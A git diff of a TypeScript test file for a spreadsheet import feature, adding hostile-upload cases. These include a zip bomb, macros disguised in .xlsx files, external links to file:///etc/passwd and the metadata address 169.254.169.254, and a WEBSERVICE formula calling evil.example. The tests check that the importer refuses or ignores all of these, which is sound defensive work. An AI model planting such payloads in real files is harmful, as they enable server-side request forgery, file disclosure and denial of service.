@@ -2,7 +2,7 @@ import { importRows, imports } from '@duijie/db/schema/imports'
 import { needs } from '@duijie/db/schema/needs'
 import { organizations } from '@duijie/db/schema/organizations'
 import { and, eq, sql } from 'drizzle-orm'
-import { zipSync } from 'fflate'
+import { unzipSync, zipSync } from 'fflate'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { testWorkbook } from '../tables/testing.ts'
 import { type Client, createTestApp, type TestApp } from '../testing/test-app.ts'
@@ -20,6 +20,13 @@ const bytes = (text: string) => new TextEncoder().encode(text)
 const list = (...rows: (string | { f: string; v?: string })[][]) =>
   testWorkbook({ name: '需求', rows: [['企业名称', '需求名称', '需求描述'], ...rows] })
 
+/** A list like any other, with something more in its archive. */
+const withParts = (parts: Record<string, string>, ...rows: Parameters<typeof list>) =>
+  zipSync({
+    ...unzipSync(list(...rows)),
+    ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, bytes(text)])),
+  })
+
 describe('a hostile file', () => {
   const bomb = zipSync({ 'xl/workbook.xml': new Uint8Array(80 * 1024 * 1024) }, { level: 9 })
   const macros = zipSync({ 'xl/workbook.xml': bytes('<workbook/>'), 'xl/vbaProject.bin': bytes('x') })
@@ -27,6 +34,13 @@ describe('a hostile file', () => {
   it.each([
     ['a zip bomb', '需求.xlsx', bomb, '解压后超过'],
     ['macros', '需求.xlsm', macros, '文件含有宏'],
+    ['macros under the name of a list', '需求.xlsx', withParts({ 'xl/vbaProject.bin': 'x' }), '文件含有宏'],
+    [
+      'macros of the oldest kind',
+      '需求.xlsx',
+      withParts({ 'xl/macrosheets/sheet1.xml': '<xm/>' }),
+      '文件含有宏',
+    ],
     ['a PDF under another name', '需求.xlsx', bytes('%PDF-1.7 …'), '内容不是表格文件'],
     ['a PDF called a CSV', '需求.csv', bytes('%PDF-1.7 …'), '内容不是表格文件，与文件名不符'],
     [
@@ -56,6 +70,34 @@ describe('a hostile file', () => {
     const { items } = (await staff.get(`/imports/${one.id}/rows`)).json()
     expect(items[0].cells).toMatchObject({ title: '点此查看需求', problem: '保存的结果' })
   })
+})
+
+it('links to other workbooks and embedded things are not followed: what the cells keep of them is read', async () => {
+  const { name } = await test.factories.organization()
+  const link = (target: string) =>
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="x" Target="${target}" TargetMode="External"/></Relationships>`
+  const one = await uploaded(
+    staff,
+    'needs',
+    '需求.xlsx',
+    withParts(
+      {
+        'xl/externalLinks/externalLink1.xml': '<externalLink/>',
+        'xl/externalLinks/_rels/externalLink1.xml.rels': link('file:///etc/passwd'),
+        'xl/worksheets/_rels/sheet1.xml.rels': link('http://169.254.169.254/'),
+        'xl/embeddings/oleObject1.bin': 'x',
+      },
+      [name, { f: "'[1]旧表'!A1", v: '别的工作簿里的需求' }, { f: 'WEBSERVICE("http://evil.example")' }],
+    ),
+  )
+  expect(one.notes).toEqual([
+    '文件含有 2 个公式，只读取了它们保存的结果，没有重新计算',
+    '文件含有指向其他工作簿的外部链接，没有读取链接的内容',
+    '文件嵌有其他对象，没有读取',
+  ])
+  const { items } = (await staff.get(`/imports/${one.id}/rows`)).json()
+  expect(items).toHaveLength(1)
+  expect(items[0].cells).toEqual({ organization: name, title: '别的工作簿里的需求' })
 })
 
 describe('all or nothing', () => {
